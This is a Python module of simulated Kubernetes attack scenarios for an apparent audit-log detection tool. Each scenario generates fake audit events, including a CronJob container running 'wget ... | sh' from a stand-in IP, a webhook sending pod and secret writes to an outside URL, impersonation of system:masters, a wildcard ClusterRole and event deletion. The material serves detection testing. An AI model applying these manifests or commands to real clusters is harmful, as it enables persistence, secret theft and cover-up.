"""More attack scenarios: one for each behaviour class the first set left without an example.

Registered through :func:`~kubetrail.simulate.scenarios.scenario` like the built-ins. Each one
follows what the client really sends (kubectl's field managers, the GET before an edit, the
WebSocket upgrade as a GET from kubectl 1.30) and the cascade the cluster answers with, so a
detection that fires here fires on the real thing. Bodies are passed to every write; the
simulated audit policy (:func:`~kubetrail.simulate.vocab.level_for`) decides which survive.
"""

from __future__ import annotations

import base64
import datetime as dt
from typing import Any

from . import bodies
from . import identity as idn
from .cluster import Cluster, Pod, generated
from .engine import Engine
from .scenarios import ScenarioContext, _as, _person, scenario
from .vocab import (
    FORBID,
    MIN,
    SEC,
    Identity,
    forbidden,
    latency_annotations,
    oref,
)
from .workload import start_pod, with_psa

_KUBECTL = "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc"
_ADMISSION = "admissionregistration.k8s.io"
_RBAC = "rbac.authorization.k8s.io"
_CERTS = "certificates.k8s.io"
_CREATE = "?fieldManager=kubectl-create&fieldValidation=Strict"
_MS = 1000


def _placeholder_pem(kind: str) -> str:
    """Base64 of an obviously fake PEM block: the shape of the field, never key material."""
    pem = f"-----BEGIN {kind}-----\nkubetrail-simulated-placeholder\n-----END {kind}-----\n"
    return base64.b64encode(pem.encode()).decode()


def _impersonating(eng: Engine, t: int, who: Identity, as_user: dict[str, Any], verb: str,
                   ref: dict[str, str], **kw: Any) -> int:
    """``eng.call`` with ``impersonatedUser`` on every stage, right after ``user`` (Go's order)."""
    push = eng.push

    def add(at: int, ev: dict[str, Any]) -> None:
        out: dict[str, Any] = {}
        for key, value in ev.items():
            out[key] = value
            if key == "user":
                out["impersonatedUser"] = as_user
        push(at, out)

    eng.push = add  # type: ignore[method-assign]
    try:
        return eng.call(t, who, verb, ref, **kw)
    finally:
        del eng.push


# -- persistence and control-plane configuration --------------------------------------------


@scenario("admission-webhook", "A MutatingWebhookConfiguration that sends every pod and secret "
          "write to an outside URL (failurePolicy Ignore), created with an SRE's credentials "
          "from an unfamiliar address.")
def _admission_webhook(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "198.51.100.143", _KUBECTL)
    kind = "mutatingwebhookconfigurations"
    name = "pod-runtime-defaults"
    t = eng.call(t, who, "list", oref(kind, group=_ADMISSION), query="?limit=500") + 25 * SEC
    hook = {"name": "defaults.pod-runtime.io",
            "clientConfig": {"url": "https://hooks.cdn-metrics.example.net:8443/mutate"},
            "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": [""], "apiVersions": ["v1"],
                       "resources": ["pods", "secrets"], "scope": "*"}],
            "failurePolicy": "Ignore", "matchPolicy": "Equivalent", "namespaceSelector": {},
            "objectSelector": {}, "sideEffects": "None", "timeoutSeconds": 5,
            "admissionReviewVersions": ["v1"], "reinvocationPolicy": "Never"}
    ts = eng.ts(t)
    req = {"kind": "MutatingWebhookConfiguration", "apiVersion": f"{_ADMISSION}/v1",
           "metadata": bodies.meta(name), "webhooks": [hook]}
    resp = {**req, "metadata": {**bodies.meta(name, uid=eng.uuid(), rv=eng.rv(), ts=ts),
                                "generation": 1}}
    done = eng.call(t, who, "create", oref(kind, group=_ADMISSION), query=_CREATE,
                    rc_ref=oref(kind, name=name, group=_ADMISSION), req=req, resp=resp)
    eng.call(done + 6 * SEC, who, "get", oref(kind, name=name, group=_ADMISSION))


@scenario("coredns-tamper", "The CoreDNS ConfigMap in kube-system edited (kubectl edit: GET, then "
          "PATCH a minute later) with an SRE's credentials from an unfamiliar address.")
def _coredns_tamper(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "192.0.2.77", "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350")
    t = eng.call(t, who, "list", oref("pods", "kube-system"),
                 query="?labelSelector=k8s-app%3Dkube-dns&limit=500") + 12 * SEC
    ref = oref("configmaps", "kube-system", "coredns")
    t = eng.call(t, who, "get", ref) + 40 * SEC + eng.rng.randrange(40 * SEC)
    done = eng.call(t, who, "patch", ref, query="?fieldManager=kubectl-edit&fieldValidation=Strict")
    eng.call(done + 20 * SEC, who, "get", ref)


@scenario("cronjob-persistence", "A CronJob in kube-system whose container runs `wget ... | sh`, "
          "created from an unfamiliar address; its first run creates the Job and the pod.",
          dt.timedelta(minutes=14))
def _cronjob_persistence(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "203.0.113.97", _KUBECTL)
    ns, name = "kube-system", "node-log-rotate"
    container = {"name": "rotate", "image": "docker.io/library/alpine:3.20",
                 "command": ["/bin/sh", "-c", "wget -qO- http://198.51.100.23/r.sh | sh"],
                 "resources": {}, "terminationMessagePath": "/dev/termination-log",
                 "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}
    pod_spec = {"containers": [container], "restartPolicy": "OnFailure",
                "terminationGracePeriodSeconds": 30, "dnsPolicy": "ClusterFirst",
                "securityContext": {}, "schedulerName": "default-scheduler"}
    template = {"metadata": {"creationTimestamp": None}, "spec": pod_spec}
    spec = {"schedule": "*/10 * * * *", "concurrencyPolicy": "Allow", "suspend": False,
            "jobTemplate": {"metadata": {"creationTimestamp": None},
                            "spec": {"template": template}},
            "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1}
    cj_uid = eng.uuid()
    ts = eng.ts(t)
    req = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": bodies.meta(name, ns),
           "spec": spec, "status": {}}
    resp = {**req, "metadata": bodies.meta(name, ns, uid=cj_uid, rv=eng.rv(), ts=ts)}
    done = eng.call(t, who, "create", oref("cronjobs", ns, group="batch"), query=_CREATE,
                    rc_ref=oref("cronjobs", ns, name, "batch"), req=req, resp=resp)
    eng.call(done + 8 * SEC, who, "get", oref("cronjobs", ns, name, "batch"))
    tick = (done // (10 * MIN) + 1) * 10 * MIN
    eng.at(tick, lambda at: _cron_tick(eng, cl, at, name, cj_uid, template))


def _cron_tick(eng: Engine, cl: Cluster, t: int, cronjob: str, cj_uid: str,
               template: dict[str, Any]) -> None:
    """The cronjob-controller's run: Job, status, then job-controller's pod and its start."""
    ns = "kube-system"
    cjc, jc = cl.who["cronjob-controller"], cl.who["job-controller"]
    job, job_uid = f"{cronjob}-{t // MIN}", eng.uuid()
    t += 40 * _MS + eng.rng.randrange(300 * _MS)
    ts = eng.ts(t)
    owner = bodies.owner("CronJob", cronjob, cj_uid, "batch/v1")
    req = {"kind": "Job", "apiVersion": "batch/v1",
           "metadata": bodies.meta(job, ns, owner=owner, labels=None),
           "spec": {"template": template}, "status": {}}
    resp = {**req, "metadata": bodies.meta(job, ns, uid=job_uid, rv=eng.rv(), ts=ts, owner=owner)}
    eng.call(t, cjc, "create", oref("jobs", ns, group="batch"),
             rc_ref=oref("jobs", ns, job, "batch"), req=req, resp=resp)
    eng.call(t + 3 * _MS, cjc, "create", oref("events", ns))
    status = {"active": [{"kind": "Job", "namespace": ns, "name": job, "uid": job_uid,
                          "apiVersion": "batch/v1"}], "lastScheduleTime": bodies.when(ts)}
    eng.call(t + 6 * _MS, cjc, "update", oref("cronjobs", ns, cronjob, "batch", sub="status"),
             req=bodies.status_update("CronJob", "batch/v1", cronjob, ns, cj_uid, eng.rv(), status))
    node = cl.workers[eng.rng.randrange(len(cl.workers))]
    p = Pod(f"{job}-{generated(eng.rng.getrandbits(32), 5)}", ns, eng.uuid(), node,
            cl.pod_ip(node), "default", cronjob)
    t += 20 * _MS
    job_owner = bodies.owner("Job", job, job_uid, "batch/v1")
    eng.call(t, jc, "create", oref("pods", ns), rc_ref=oref("pods", ns, p.name),
             req=bodies.pod(p, None, "", job_owner, spec=template["spec"]),
             resp=bodies.pod(p, None, eng.ts(t), job_owner, uid=p.uid, rv=eng.rv(),
                             spec=template["spec"]),
             ann=with_psa(jc.allow, "privileged:latest"))
    start_pod(eng, cl, t, p, None)


# -- identity and access ----------------------------------------------------------------------


_SCAN = (  # (verb, path, objectRef or None, allowed by the anonymous `view` binding)
    ("get", "/version", None, True),
    ("get", "/api", None, False),
    ("get", "/apis", None, False),
    ("list", "/api/v1/namespaces", oref("namespaces"), True),
    ("list", "/api/v1/pods", oref("pods"), True),
    ("list", "/api/v1/secrets", oref("secrets"), False),
    ("list", "/api/v1/services", oref("services"), True),
    ("list", "/api/v1/configmaps", oref("configmaps"), True),
    ("list", "/api/v1/nodes", oref("nodes"), False),
    ("list", "/api/v1/serviceaccounts", oref("serviceaccounts"), True),
    ("list", "/api/v1/endpoints", oref("endpoints"), True),
    ("list", "/apis/apps/v1/deployments", oref("deployments", group="apps"), True),
    ("list", "/apis/apps/v1/daemonsets", oref("daemonsets", group="apps"), True),
    ("list", "/apis/batch/v1/cronjobs", oref("cronjobs", group="batch"), True),
    ("list", "/apis/networking.k8s.io/v1/ingresses", oref("ingresses", group="networking.k8s.io"),
     True),
    ("list", f"/apis/{_RBAC}/v1/clusterrolebindings", oref("clusterrolebindings", group=_RBAC),
     False),
    ("list", "/api/v1/namespaces/kube-system/pods", oref("pods", "kube-system"), True),
    ("list", "/api/v1/namespaces/kube-system/secrets", oref("secrets", "kube-system"), False),
    ("get", "/api/v1/namespaces/kube-system/configmaps/kubeadm-config",
     oref("configmaps", "kube-system", "kubeadm-config"), True),
    ("create", "/api/v1/namespaces/default/pods", oref("pods", "default"), False),
)


@scenario("anonymous-access", "An SRE binds the `view` role to system:anonymous; half an hour "
          "later a scanner enumerates twenty endpoints without credentials in under a minute "
          "(most allowed, some 403s, one anonymous pod create refused).", dt.timedelta(minutes=40))
def _anonymous_access(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    admin = _person(cl, "sre")
    name = "anonymous-view"
    subjects = [{"kind": "User", "apiGroup": _RBAC, "name": "system:anonymous"}]
    done = eng.call(t, admin, "create", oref("clusterrolebindings", group=_RBAC), query=_CREATE,
                    rc_ref=oref("clusterrolebindings", name=name, group=_RBAC),
                    req=bodies.cluster_role_binding(name, "view", subjects),
                    resp=bodies.cluster_role_binding(name, "view", subjects, eng.ts(t), eng.uuid(),
                                                     eng.rv()))
    t = done + 20 * MIN + eng.rng.randrange(15 * MIN)
    anon = idn.user("system:anonymous", ["system:unauthenticated"])
    view = idn.allow(idn.crb(name, "view", "User", "system:anonymous"))
    public = idn.allow(idn.crb("system:public-info-viewer", "system:public-info-viewer", "Group",
                               "system:unauthenticated"))
    who = Identity(anon, ["203.0.113.9"], "python-requests/2.32.3", view)
    for verb, path, ref, ok in _SCAN:
        if ok:
            ann = public if path == "/version" else view
            if ref is None:
                eng.request(t, who, verb, path, None, lat=eng.tiny(), ann=ann)
            else:
                eng.call(t, who, verb, ref, uri=path, ann=ann)
        elif ref is None:
            status = {"metadata": {}, "status": "Failure",
                      "message": f'forbidden: User "system:anonymous" cannot get path "{path}"',
                      "reason": "Forbidden", "details": {}, "code": 403}
            eng.request(t, who, verb, path, None, code=403, status=status, ann=FORBID,
                        lat=eng.tiny())
        else:
            status = forbidden("system:anonymous", verb, ref["resource"], ref.get("apiGroup", ""),
                               ref.get("namespace", ""), ref.get("name", ""))
            eng.call(t, who, verb, ref, uri=path, code=403, status=status, ann=FORBID,
                     lat=eng.tiny())
        t += 600_000 + eng.rng.randrange(2_400_000)


@scenario("impersonation", "An SRE impersonates `admin` in system:masters to list and read "
          "kube-system secrets, then a privileged controller service account to list every "
          "secret in the cluster.")
def _impersonation(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _person(cl, "sre")
    masters = idn.user("admin", ["system:masters", idn.AUTHENTICATED])
    root = idn.allow("")  # system:masters short-circuits the authorizer: no reason text
    t = _impersonating(eng, t, who, masters, "list", oref("secrets", "kube-system"),
                       query="?limit=500", ann=root) + 9 * SEC
    t = _impersonating(eng, t, who, masters, "get",
                       oref("secrets", "kube-system", "bootstrap-token-h2k9x4"), ann=root) + 50 * SEC
    sa = "generic-garbage-collector"
    gc = idn.user(f"system:serviceaccount:kube-system:{sa}",
                  ["system:serviceaccounts", "system:serviceaccounts:kube-system", idn.AUTHENTICATED])
    ann = idn.allow(idn.crb(f"system:controller:{sa}", f"system:controller:{sa}", "ServiceAccount",
                            f"{sa}/kube-system"))
    _impersonating(eng, t, who, gc, "list", oref("secrets"), query="?limit=500", ann=ann)


@scenario("rbac-wildcard-role", "A ClusterRole granting every verb on every resource, created and "
          "bound to an application service account from an unfamiliar address; the service "
          "account then lists secrets cluster-wide.")
def _rbac_wildcard_role(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "203.0.113.201", _KUBECTL)
    name = "cluster-maintenance"
    rules = [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]},
             {"verbs": ["*"], "nonResourceURLs": ["*"]}]
    ts = eng.ts(t)
    req = {"kind": "ClusterRole", "apiVersion": f"{_RBAC}/v1", "metadata": bodies.meta(name),
           "rules": rules}
    resp = {**req, "metadata": bodies.meta(name, uid=eng.uuid(), rv=eng.rv(), ts=ts)}
    t = eng.call(t, who, "create", oref("clusterroles", group=_RBAC), query=_CREATE,
                 rc_ref=oref("clusterroles", name=name, group=_RBAC), req=req, resp=resp)
    w = next((w for w in cl.workloads if w.namespace == "shop" and w.pods), cl.workloads[0])
    subjects = [{"kind": "ServiceAccount", "name": w.name, "namespace": w.namespace}]
    t += 20 * SEC + eng.rng.randrange(20 * SEC)
    done = eng.call(t, who, "create", oref("clusterrolebindings", group=_RBAC), query=_CREATE,
                    rc_ref=oref("clusterrolebindings", name=name, group=_RBAC),
                    req=bodies.cluster_role_binding(name, name, subjects),
                    resp=bodies.cluster_role_binding(name, name, subjects, eng.ts(t), eng.uuid(),
                                                     eng.rv()))
    pod = w.pods[0]
    sa = idn.service_account(w.namespace, w.name, eng.uuid(), "curl/8.7.1", pod.ip,
                             idn.crb(name, name, "ServiceAccount", f"{w.name}/{w.namespace}"),
                             idn.pod_claims(eng.uuid(), pod.node.name, pod.node.uid, pod.name,
                                            pod.uid))
    eng.call(done + 70 * SEC, sa, "list", oref("secrets"), query="?limit=500")


@scenario("csr-client-cert", "A client certificate for `ops-admin` (kube-apiserver-client signer, "
          "one year) requested and approved by the same user from an unfamiliar address, signed, "
          "then used from elsewhere as a system:masters identity.", dt.timedelta(minutes=5))
def _csr_client_cert(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "203.0.113.210", _KUBECTL)
    name = "ops-admin"
    uid = eng.uuid()
    spec = {"request": _placeholder_pem("CERTIFICATE REQUEST"),
            "signerName": "kubernetes.io/kube-apiserver-client", "expirationSeconds": 31536000,
            "usages": ["client auth"]}
    ts = eng.ts(t)
    req = {"kind": "CertificateSigningRequest", "apiVersion": f"{_CERTS}/v1",
           "metadata": bodies.meta(name), "spec": spec, "status": {}}
    ref = oref("certificatesigningrequests", name=name, group=_CERTS)
    t = eng.call(t, who, "create", oref("certificatesigningrequests", group=_CERTS), query=_CREATE,
                 rc_ref=ref, req=req) + 25 * SEC + eng.rng.randrange(20 * SEC)
    t = eng.call(t, who, "get", ref) + 4 * _MS
    stored = {**spec, "username": who.username, "groups": who.user["groups"]}
    approved = {"type": "Approved", "status": "True", "reason": "KubectlApprove",
                "message": "This CSR was approved by kubectl certificate approve.",
                "lastUpdateTime": bodies.when(eng.ts(t)), "lastTransitionTime": None}
    body = {"kind": "CertificateSigningRequest", "apiVersion": f"{_CERTS}/v1",
            "metadata": bodies.meta(name, uid=uid, rv=eng.rv(), ts=ts), "spec": stored,
            "status": {"conditions": [approved]}}
    done = eng.call(t, who, "update", {**ref, "subresource": "approval"}, req=body)
    signer = idn.controller("certificate-controller", eng.uuid(), cl.ua("kube-controller-manager"),
                            cl.control_plane[0].ip, eng.uuid())
    signed = {**body, "metadata": {**body["metadata"], "resourceVersion": eng.rv()},
              "status": {"conditions": [{**approved, "lastTransitionTime": approved["lastUpdateTime"]}],
                         "certificate": _placeholder_pem("CERTIFICATE")}}
    done = eng.call(done + 30 * _MS, signer, "update", {**ref, "subresource": "status"}, req=signed)
    done = eng.call(done + 3 * SEC, who, "get", ref)
    admin = Identity(idn.user(name, ["system:masters", idn.AUTHENTICATED]), ["198.51.100.250"],
                     _KUBECTL, idn.allow(""))
    eng.call(done + 2 * MIN + eng.rng.randrange(MIN), admin, "list", oref("secrets"),
             query="?limit=500")


# -- workloads, exposure and evasion ----------------------------------------------------------


@scenario("ephemeral-debug", "`kubectl debug -it --profile=sysadmin --target=app` on a production "
          "pod from an unfamiliar address: the ephemeralcontainers patch (a privileged container), "
          "the kubelet starting it, then an attach session.")
def _ephemeral_debug(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "203.0.113.171", "kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0")
    w = next((w for w in cl.workloads if w.namespace == "payments" and w.pods), cl.workloads[0])
    pod = w.pods[0]
    ref = oref("pods", w.namespace, pod.name)
    t = eng.call(t, who, "get", ref) + 5 * _MS
    debugger = f"debugger-{generated(eng.rng.getrandbits(32), 5)}"
    container = {"name": debugger, "image": "docker.io/nicolaka/netshoot:v0.13", "resources": {},
                 "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
                 "securityContext": {"privileged": True}, "stdin": True, "tty": True,
                 "targetContainerName": "app"}
    patch = {"spec": {"ephemeralContainers": [container]}}
    t = eng.call(t, who, "patch", {**ref, "subresource": "ephemeralcontainers"}, req=patch)
    # kubectl then waits for the container to run: list + watch of that one pod.
    field = f"?fieldSelector=metadata.name%3D{pod.name}"
    watch_at = eng.call(t + 3 * _MS, who, "list", oref("pods", w.namespace),
                        query=f"{field}&limit=500") + 2 * _MS
    kubelet = pod.node.kubelet
    for i in range(3):  # pulling, pulled, created/started
        eng.call(t + (1 + i) * 900 * _MS, kubelet, "create", oref("events", w.namespace))
    running = t + 3 * SEC + eng.rng.randrange(2 * SEC)
    status = {"metadata": {"uid": pod.uid}, "status": {"ephemeralContainerStatuses": [
        {"name": debugger, "state": {"running": {"startedAt": bodies.when(eng.ts(running))}},
         "ready": False, "restartCount": 0, "image": container["image"],
         "imageID": "", "containerID": f"containerd://{eng.rng.getrandbits(256):064x}"}]}}
    eng.call(running, kubelet, "patch", {**ref, "subresource": "status"}, req=status)
    secs = 300 + eng.rng.randrange(300)
    eng.call(watch_at, who, "watch", oref("pods", w.namespace),
             query=f"{field}&resourceVersion={eng.rv_now()}&timeoutSeconds={secs}&watch=true",
             end=running + 60 * _MS)
    t = running + 400 * _MS
    ws = min(int(who.ua.split("/v1.")[1].split(".")[0]), cl.minor) >= 30
    end = t + 90 * SEC + eng.rng.randrange(240 * SEC)
    eng.call(t, who, "get" if ws else "create", {**ref, "subresource": "attach"},
             query=f"?container={debugger}&stdin=true&stdout=true&tty=true", code=101, end=end,
             ann=latency_annotations(end - t, who.allow))


@scenario("nodeport-exposure", "An SRE exposes the Kubernetes dashboard in kube-system as a "
          "NodePort service (kubectl expose) and publishes it through an Ingress without TLS, with "
          "the endpoint controllers' follow-up writes.")
def _nodeport_exposure(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _person(cl, "sre")
    ns, app, name = "kube-system", "kubernetes-dashboard", "dashboard-ext"
    node = cl.workers[-1]
    pod = Pod(f"{app}-{generated(eng.rng.getrandbits(64), 10)}-{generated(eng.rng.getrandbits(32), 5)}",
              ns, eng.uuid(), node, cl.pod_ip(node, 200), app, app)
    t = eng.call(t, who, "get", oref("deployments", ns, app, "apps")) + 8 * _MS
    selector = {"k8s-app": app}
    ports = [{"protocol": "TCP", "port": 443, "targetPort": 8443}]
    svc = {"kind": "Service", "apiVersion": "v1", "metadata": bodies.meta(name, ns, labels=selector),
           "spec": {"ports": ports, "selector": selector, "type": "NodePort"},
           "status": {"loadBalancer": {}}}
    cluster_ip = f"10.96.{eng.rng.randrange(256)}.{eng.rng.randrange(1, 255)}"
    resp = {**svc, "metadata": bodies.meta(name, ns, uid=eng.uuid(), rv=eng.rv(), ts=eng.ts(t),
                                           labels=selector),
            "spec": {"ports": [{**ports[0], "nodePort": 30000 + eng.rng.randrange(2768)}],
                     "selector": selector, "clusterIP": cluster_ip, "clusterIPs": [cluster_ip],
                     "type": "NodePort", "sessionAffinity": "None",
                     "externalTrafficPolicy": "Cluster", "ipFamilies": ["IPv4"],
                     "ipFamilyPolicy": "SingleStack", "internalTrafficPolicy": "Cluster"}}
    done = eng.call(t, who, "create", oref("services", ns),
                    query="?fieldManager=kubectl-expose&fieldValidation=Strict",
                    rc_ref=oref("services", ns, name), req=svc, resp=resp)
    _endpoints_created(eng, cl, done + 4 * _MS, ns, name, [pod], 8443)
    t = done + 50 * SEC + eng.rng.randrange(60 * SEC)
    backend = {"service": {"name": name, "port": {"number": 443}}}
    ing = {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1",
           "metadata": bodies.meta("dashboard", ns) | {"annotations": {
               "nginx.ingress.kubernetes.io/backend-protocol": "HTTPS"}},
           "spec": {"ingressClassName": "nginx", "rules": [
               {"host": f"dashboard.{cl.name}.example.com", "http": {"paths": [
                   {"path": "/", "pathType": "Prefix", "backend": backend}]}}]},
           "status": {"loadBalancer": {}}}
    eng.call(t, who, "create", oref("ingresses", ns, group="networking.k8s.io"), query=_CREATE,
             rc_ref=oref("ingresses", ns, "dashboard", "networking.k8s.io"), req=ing)


def _endpoints_created(eng: Engine, cl: Cluster, t: int, ns: str, svc: str, pods: list[Pod],
                       port: int) -> None:
    """endpointslice-controller and endpoint-controller answer a new Service."""
    ready = [{"addresses": [p.ip], "conditions": {"ready": True}, "nodeName": p.node.name,
              "targetRef": {"kind": "Pod", "namespace": ns, "name": p.name, "uid": p.uid}}
             for p in pods]
    slice_name = f"{svc}-{generated(eng.rng.getrandbits(32), 5)}"
    eng.call(t, cl.who["endpointslice-controller"], "create",
             oref("endpointslices", ns, group="discovery.k8s.io"),
             rc_ref=oref("endpointslices", ns, slice_name, "discovery.k8s.io"),
             req={"kind": "EndpointSlice", "apiVersion": "discovery.k8s.io/v1",
                  "metadata": {**bodies.meta("", ns, generate=f"{svc}-", labels={
                      "kubernetes.io/service-name": svc,
                      "endpointslice.kubernetes.io/managed-by": "endpointslice-controller.k8s.io"})},
                  "addressType": "IPv4", "endpoints": ready,
                  "ports": [{"name": "", "protocol": "TCP", "port": port}]})
    eng.call(t + 2 * _MS, cl.who["endpoint-controller"], "create", oref("endpoints", ns),
             rc_ref=oref("endpoints", ns, svc),
             req={"kind": "Endpoints", "apiVersion": "v1", "metadata": bodies.meta(svc, ns),
                  "subsets": [{"addresses": [{"ip": p.ip, "nodeName": p.node.name}
                                             for p in pods],
                               "ports": [{"port": port, "protocol": "TCP"}]}]})


@scenario("events-wipe", "After a shell in a payments pod, the same stolen SRE credentials delete "
          "the namespace's Events one by one (`kubectl delete events --all`) and then kube-system's "
          "in one deletecollection from a script.", dt.timedelta(minutes=8))
def _events_wipe(ctx: ScenarioContext) -> None:
    eng, cl, t = ctx.eng, ctx.cluster, ctx.t
    who = _as(_person(cl, "sre"), "198.51.100.144", _KUBECTL)
    w = next((w for w in cl.workloads if w.namespace == "payments" and w.pods), cl.workloads[0])
    ns, pod = w.namespace, w.pods[0]
    ref = oref("pods", ns, pod.name)
    t = eng.call(t, who, "get", ref) + 3 * _MS
    end = t + 2 * MIN + eng.rng.randrange(2 * MIN)
    ws = min(int(who.ua.split("/v1.")[1].split(".")[0]), cl.minor) >= 30
    eng.call(t, who, "get" if ws else "create", {**ref, "subresource": "exec"},
             query="?command=%2Fbin%2Fsh&container=app&stdin=true&stdout=true&tty=true", code=101,
             end=end, ann=latency_annotations(end - t, who.allow))
    t = end + 20 * SEC
    t = eng.call(t, who, "list", oref("events", ns), query="?limit=500") + 30 * SEC
    t = eng.call(t, who, "list", oref("events", ns), query="?limit=500") + 60 * _MS
    objects = [p.name for p in w.pods] + [w.rs_name, w.name]
    for i in range(14):
        involved = objects[i % len(objects)]
        stamp = (t - (i + 1) * 7 * MIN) * 1000 + eng.rng.randrange(1000)
        t = eng.call(t, who, "delete", oref("events", ns, f"{involved}.{stamp:x}")) + \
            15 * _MS + eng.rng.randrange(40 * _MS)
    script = Identity(who.user, who.ips, "OpenAPI-Generator/31.0.0/python", who.allow)
    eng.call(t + 45 * SEC, script, "deletecollection", oref("events", "kube-system"))
